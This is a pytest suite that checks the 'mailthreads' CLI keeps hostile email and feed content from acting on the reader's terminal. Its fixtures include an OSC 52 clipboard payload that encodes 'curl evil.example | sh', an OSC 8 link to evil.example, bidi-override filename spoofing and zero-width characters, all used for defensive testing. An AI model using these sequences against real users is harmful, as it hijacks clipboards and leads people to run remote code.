"""Hostile senders cannot drive the reader's terminal.

The real ``mailthreads`` command runs on a real pseudo-terminal (``pty``), on a real SQLite file
filled by ``mailthreads ingest`` from hostile messages built here, and everything the terminal
receives is checked: no escape sequence from a message (OSC 52 clipboard writes, OSC 8 links,
window titles, ``ESC[2J``, a concealing SGR), no C1 control, no bidi override, no invisible
character; the program's own colours still arrive where it uses them.
"""

from __future__ import annotations

import base64
import fcntl
import json
import logging
import os
import pty
import re
import select
import shutil
import socket
import struct
import subprocess
import sys
import termios
import time
import unicodedata
from pathlib import Path

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from mailthreads.printable import is_hidden, json_safe, neutralise
from mailthreads.tokens import make_token
from mailthreads.transport.smtp import log as smtp_log

REPO = Path(__file__).resolve().parents[1]
ESC = "\x1b"
BEL = "\x07"
OSC52 = f"{ESC}]52;c;{base64.b64encode(b'curl evil.example | sh').decode()}{BEL}"
CLEAR = f"{ESC}[2J"
TITLE = f"{ESC}]0;pwned{BEL}"
LINK = f"{ESC}]8;;https://evil.example/{ESC}\\click here{ESC}]8;;{ESC}\\"
CONCEAL = f"{ESC}[8m"
C1_CSI = "\x9b2J"
BIDI = "\u202egnp.exe"
ISOLATE = "\u2066x\u2069"
ZERO_WIDTH = "ad\u200bmin\u2060\ufeff"
EVERYTHING = OSC52 + CLEAR + TITLE + LINK + CONCEAL + C1_CSI + BIDI + ISOLATE + ZERO_WIDTH + "\x7f"
# The program's own styles (click.style): bold, dim, cyan, yellow, and the reset after each.
OWN_STYLES = {f"{ESC}[{code}m" for code in ("0", "1", "2", "33", "36")}
HIDDEN_CATEGORIES = {"Cc", "Cf", "Cs", "Zl", "Zp"}
TIMEOUT = 60.0  # bounds a hung command; nothing here measures speed


def encoded_word(text: str) -> str:
    return "=?utf-8?b?" + base64.b64encode(text.encode()).decode() + "?="


def hostile_message(post: str, message_id: str, sender: str = "eve@example.com") -> bytes:
    body = (f"Dear author, {EVERYTHING} typewriter\n"
            f"a line with a lone CR\rthat rewrites itself\n"
            f"tab\tkept\n\n"
            f"> quoted {OSC52} {BIDI}\n\n"
            f"-- \nEve {LINK} {ZERO_WIDTH}\n")
    headers = (f"From: {encoded_word('Eve ' + LINK + BIDI)} <{sender}>\r\n"
               f"To: reply+{post}@blog.example\r\n"
               f"Subject: {encoded_word('Hi ' + EVERYTHING)}\r\n"
               "Date: Mon, 02 Nov 2026 09:00:00 +0000\r\n"
               f"Message-ID: <{message_id}>\r\n"
               "MIME-Version: 1.0\r\n"
               "Content-Type: text/plain; charset=utf-8\r\n"
               "Content-Transfer-Encoding: base64\r\n\r\n")
    return headers.encode() + base64.encodebytes(body.encode()).replace(b"\n", b"\r\n")


def hostile_feed() -> str:
    # XML carries no C0 controls but ESC and BEL, which feedparser passes on.
    entries = "".join(
        f"<entry><title>{title}</title><link href=\"https://blog.example/{slug}\"/>"
        f"<id>{slug}</id></entry>"
        for slug, title in (("why-i-blog", f"Why I blog {OSC52}{BIDI}{ZERO_WIDTH}"),
                            ("closed-post", f"Closed {TITLE}{BIDI}")))
    return ('<?xml version="1.0" encoding="utf-8"?>'
            f'<feed xmlns="http://www.w3.org/2005/Atom"><title>blog</title>{entries}</feed>')


def free_port() -> int:
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        return probe.getsockname()[1]


def command(*args: str) -> list[str]:
    script = shutil.which("mailthreads")
    return [script, *args] if script else [sys.executable, "-m", "mailthreads", *args]


class Terminal:
    """Runs ``mailthreads`` on a pseudo-terminal of 200x60 and returns what it displayed."""

    def __init__(self, root: Path):
        self.root = root
        self.env = {key: value for key, value in os.environ.items()
                    if key not in {"PAGER", "LESS", "NO_COLOR", "MANPAGER"}}
        self.env.update(TERM="xterm-256color", LANG="C.UTF-8", LC_ALL="C.UTF-8",
                        MAILTHREADS_CONFIG=str(root / "config.toml"),
                        MAILTHREADS_DB=str(root / "mail.db"),
                        PYTHONPATH=os.pathsep.join(filter(None, (
                            str(REPO), os.environ.get("PYTHONPATH")))))

    def run(self, *args: str, code: int = 0, answer_when: bytes | None = None,
            keys: bytes = b"q") -> str:
        master, slave = pty.openpty()
        fcntl.ioctl(slave, termios.TIOCSWINSZ, struct.pack("HHHH", 60, 200, 0, 0))
        process = subprocess.Popen(command(*args), stdin=slave, stdout=slave, stderr=slave,
                                   env=self.env, cwd=self.root, start_new_session=True)
        os.close(slave)
        shown = bytearray()
        deadline = time.monotonic() + TIMEOUT
        try:
            while True:
                if time.monotonic() > deadline:
                    raise AssertionError(f"{args} did not finish:\n{bytes(shown)!r}")
                if not select.select([master], [], [], 0.5)[0]:
                    continue
                try:
                    chunk = os.read(master, 65536)
                except OSError:  # EIO: the last program on the terminal has gone
                    break
                if not chunk:
                    break
                shown += chunk
                if answer_when is not None and answer_when in shown:
                    os.write(master, keys)
                    answer_when = None
        finally:
            os.close(master)
            if process.poll() is None:
                process.kill()
        assert process.wait(TIMEOUT) == code, bytes(shown).decode(errors="replace")
        return shown.decode("utf-8").replace("\r\n", "\n")


def assert_inert(shown: str) -> None:
    """Nothing from a message can act on the terminal; the program's own styles may."""
    styles = set(re.findall(r"\x1b\[[0-9;]*m", shown))
    assert styles <= OWN_STYLES, styles - OWN_STYLES
    # A CR right before a newline is harmless (CSV ends its lines with CR LF).
    rest = re.sub(r"\x1b\[[0-9;]*m", "", shown).replace("\r\n", "\n")
    hidden = sorted({f"U+{ord(c):04X}" for c in rest
                     if unicodedata.category(c) in HIDDEN_CATEGORIES and c not in "\n\t"})
    assert not hidden, f"reached the terminal: {hidden}\n{shown}"


@pytest.fixture(scope="module")
def terminal(tmp_path_factory) -> Terminal:
    root = tmp_path_factory.mktemp("terminal")
    (root / "config.toml").write_text(
        '[addresses]\ndomain = "blog.example"\nsecret = "terminal-test-secret-abcdefgh"\n\n'
        '[author]\nname = "Author"\naddresses = ["me@blog.example"]\n\n'
        '[posts]\ncreate_on_first_reply = true\n\n'  # the default holds replies to new posts
        f'[outgoing]\nhost = "127.0.0.1"\nport = {free_port()}\nsecurity = "none"\n')
    (root / "feed.xml").write_text(hostile_feed(), encoding="utf-8")
    (root / "stored.eml").write_bytes(hostile_message("why-i-blog", "h1@example.com"))
    (root / "quarantined.eml").write_bytes(hostile_message("closed-post", "h2@example.com"))
    # A stranger at Eve's signed address: a thread that waits for "same person as Eve?".
    token = make_token("terminal-test-secret-abcdefgh", "why-i-blog", 1)
    (root / "stranger.eml").write_bytes(hostile_message(
        f"why-i-blog.{token}", "h3@example.com", sender="mallory@example.com"))
    term = Terminal(root)
    term.run("posts", "sync", "feed.xml")
    term.run("posts", "close", "closed-post")
    term.run("ingest", "stored.eml", "quarantined.eml")
    term.run("ingest", "stranger.eml")
    # Nothing listens on the relay's port: the answer waits in the outbox, subject and all.
    term.run("reply", "1", "-m", "Thank you.", code=75)
    return term


LISTINGS = [
    ("threads",), ("threads", "--csv"), ("threads", "--nl"), ("threads", "--json"),
    ("search", "typewriter"), ("search", "typewriter", "--csv"),
    ("quarantine", "list"), ("quarantine", "list", "--nl"), ("quarantine", "show", "1"),
    ("quarantine", "show", "1", "--json"), ("quarantine", "show", "1", "--raw"),
    ("show", "1", "--json", "--keep-unread"),
    ("explain", "stored.eml"), ("explain", "stored.eml", "--json"),
    ("posts", "list"), ("posts", "list", "--csv"), ("posts", "show", "why-i-blog"),
    ("posts", "show", "why-i-blog", "--json"), ("posts", "sync", "feed.xml"),
    ("posts", "sync", "feed.xml", "--json"),
    ("outbox",), ("outbox", "list", "--json"),
    ("ingest", "stored.eml", "--nl"), ("ingest", "stored.eml", "--json"),
    ("reply", "1", "-m", "Once more.", "--dry-run"),
    ("review",), ("review", "--json"), ("correspondents", "list"), ("show", "2", "--no-pager"),
]


# What each shows of the hostile text, made visible: the reader sees what was sent. (The
# outbox holds the answer's subject, whose control characters compose took out; ingest and
# reply show no text of the message; the raw message has it base64-encoded.)
VISIBLE = {"search": r"\\u202egnp", "outbox": r"Re: Hi \]52;c;", "ingest": None, "reply": None,
           "correspondents": r"Eve \\x1b\]8;;https://evil",
           "--raw": None}


@pytest.mark.parametrize("args", LISTINGS, ids=" ".join)
def test_listings_and_details_reach_the_terminal_inert(terminal, args):
    shown = terminal.run(*args)
    assert_inert(shown)
    marker = VISIBLE.get(args[-1], VISIBLE.get(args[0], r"\\(x1b|u001b)\](52|0);"))
    if marker:
        assert re.search(marker, shown), shown


def test_show_keeps_its_colours_and_neutralises_the_sender(terminal):
    shown = terminal.run("show", "1", "--no-pager", "--quotes", "--keep-unread")
    assert_inert(shown)
    assert {f"{ESC}[1m", f"{ESC}[36m", f"{ESC}[2m"} <= set(re.findall(r"\x1b\[[0-9;]*m", shown))
    assert "\\x1b]52;c;" in shown and "\\u202egnp.exe" in shown and "ad\\u200bmin" in shown
    # The pipeline already makes a lone CR in a body a line break (neutralise would show it).
    assert "a line with a lone CR\nthat rewrites itself" in shown
    assert "tab\tkept" in shown


@pytest.mark.skipif(not shutil.which("less"), reason="less is not installed")
def test_show_through_the_default_pager(terminal):
    # "less" with the user's LESS=-R (so that it waits at the end even though the text fits)
    # passes OSC 8 links and bidi overrides on: they must not be in what it is given. less
    # draws the screen with its own sequences.
    terminal.env["LESS"] = "-R"
    try:
        shown = terminal.run("show", "1", "--quotes", "--keep-unread", answer_when=b"(END)")
    finally:
        del terminal.env["LESS"]
    assert "(END)" in shown  # less ran, and was told to quit at the end
    assert f"{ESC}]" not in shown and "\x9b" not in shown
    assert not any(unicodedata.category(c) == "Cf" for c in shown)
    assert "\\x1b]8;;https://evil.example/" in shown and "\\u202egnp.exe" in shown


def test_json_keeps_the_exact_text_as_escapes(terminal):
    shown = terminal.run("threads", "--json")
    threads = json.loads(shown)
    assert len(threads) == 2
    assert all(thread["subject"].startswith("Hi " + OSC52) for thread in threads)
    assert "\\u202e" in shown and "\\u200b" in shown and "\\u001b" in shown


def test_serve_log_lines_are_neutralised(capfd):
    # The configuration ``serve`` and its filer use, on this process's real standard error.
    loggers = [logging.getLogger(name) for name in ("", "mailthreads", "mail.log")]
    saved = [(logger.level, logger.handlers[:]) for logger in loggers]
    smtp_log.configure(0)
    try:
        logging.getLogger("mailthreads.smtp").error("cannot file %s from %s", "Hi " + OSC52,
                                                    "eve" + BIDI)
    finally:
        for logger, (level, handlers) in zip(loggers, saved, strict=True):
            logger.setLevel(level)
            logger.handlers[:] = handlers
    line = capfd.readouterr().err
    assert ESC not in line and BEL not in line and "\u202e" not in line
    assert "cannot file Hi \\x1b]52;c;" in line and "eve\\u202egnp.exe" in line


# The neutraliser itself ---------------------------------------------------------------------


def test_the_convention_is_the_escape_of_the_code_point():
    assert neutralise(f"{CLEAR}x{BEL}") == "\\x1b[2Jx\\x07"
    assert neutralise("\x9b\x7f\u202e\u200b\ufeff\U000e0041") == \
        "\\x9b\\x7f\\u202e\\u200b\\ufeff\\U000e0041"
    assert neutralise("a\r\nb\rc\td\ne") == "a\nb\\rc\td\ne"
    assert neutralise("\u3164\u115f Eve\u034f") == "\\u3164\\u115f Eve\\u034f"
    assert neutralise("a\r\nb\tc", multiline=False) == "a\\r\\nb\\tc"
    # Letters of every script, spaces (NBSP too), emoji and their joiners stay as they are.
    kept = "Grüße, Ελένη, محمد, 李, naïve\u00a0text 👍🏽 👨\u200d👩\u200d👧 ❤\ufe0f\u200d🔥"
    assert neutralise(kept) == kept


@given(st.text())
@example(EVERYTHING)
@example("a\r\nb\rc")
@example("\U0001f468\u200d\U0001f469\u200d\U0001f467 family")
def test_nothing_hidden_survives_neutralise(text):
    for multiline in (True, False):
        shown = neutralise(text, multiline=multiline)
        for index, char in enumerate(shown):
            if not is_hidden(char):
                continue
            if multiline and char in "\n\t":
                continue
            # The one exception: a zero-width joiner inside an emoji sequence.
            assert char == "\u200d", (text, shown)
            assert unicodedata.category(shown[index - 1]) in {"So", "Sk"} or \
                shown[index - 1] == "\ufe0f"


@given(st.text())
def test_neutralise_changes_only_hidden_characters(text):
    shown = neutralise(text, multiline=False)
    visible = [char for char in text if not is_hidden(char)]
    # Text without hidden characters comes back unchanged; escapes are ASCII and readable.
    if not any(is_hidden(char) for char in text):
        assert shown == text
    assert all(char in shown for char in visible)
    assert neutralise(shown, multiline=False) == shown  # escaping twice changes nothing


@given(st.recursive(st.none() | st.booleans() | st.integers() | st.text(),
                    lambda inner: st.lists(inner, max_size=4)
                    | st.dictionaries(st.text(max_size=8), inner, max_size=4),
                    max_leaves=12))
def test_json_safe_round_trips_and_hides_nothing(value):
    encoded = json_safe(json.dumps(value, indent=2, ensure_ascii=False))
    assert json.loads(encoded) == value
    assert not any(is_hidden(char) for char in encoded if char not in "\n")
